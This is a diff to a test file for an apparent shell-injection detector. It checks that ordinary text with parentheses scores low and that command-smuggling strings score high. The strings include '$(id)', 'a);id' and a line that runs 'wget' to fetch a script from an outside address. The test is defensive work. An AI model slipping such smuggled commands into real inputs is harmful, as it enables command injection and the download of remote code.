@@ -224,6 +224,15 @@ describe("shell family", () => {
     }
   })
 
+  it("reads no command right after a closing parenthesis, where a shell allows only a separator", () => {
+    for (const value of ["Report it to the Security Response Center (MSRC) at [https://msrc.example/report]", "call us (24/7) at 555-0100", "a) id"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+    for (const value of ["a);id", "a)|id", "(id)", "$(id)", "x (y); wget http://203.0.113.9/a.sh"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
   it("reads a word that starts with `#!` or `# ` as a comment to the end of the line, as a shell does", () => {
     for (const value of ["#!/usr/bin/env node\nconsole.log('hi')", "#!/usr/bin/env python3\nprint('hi')", "const line = '#!/usr/bin/env node'"]) {
       expect(score(value), value).toBeLessThan(5)
